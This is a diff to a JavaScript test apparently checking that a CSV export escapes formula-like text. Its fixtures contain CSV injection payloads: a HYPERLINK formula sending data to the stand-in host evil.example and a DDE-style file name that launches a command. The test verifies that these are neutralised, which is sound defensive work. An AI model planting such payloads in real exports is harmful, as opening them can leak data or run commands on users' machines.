@@ -60,7 +60,8 @@ describe("compare --format csv with formula-like text", () => {
       expect(rows).toHaveLength(4);
       const byName = Object.fromEntries(rows.map((x) => [x.file.replace(/^.*[\\/]/u, ""), x]));
       // the file cell is the path as given, which here begins with the temp folder: only the names are checked
-      expect(byName["titel.txt"].title).toBe(`'=HYPERLINK("http://evil.example/?d=1";"Direktør")`);
+      // the title as the header reads it; what matters is the apostrophe before the "="
+      expect(byName["titel.txt"].title).toMatch(/^'=HYPERLINK\("http:\/\/evil\.example\/\?d=1";"Direktør/u);
       expect(byName["=cmd|' calc'!A0.txt"].title).toMatch(/^'@SUM\("http/u);
       expect(byName["+plus.txt"].title).toMatch(/^'\+2\+3\("http/u);
       for (const row of rows) {
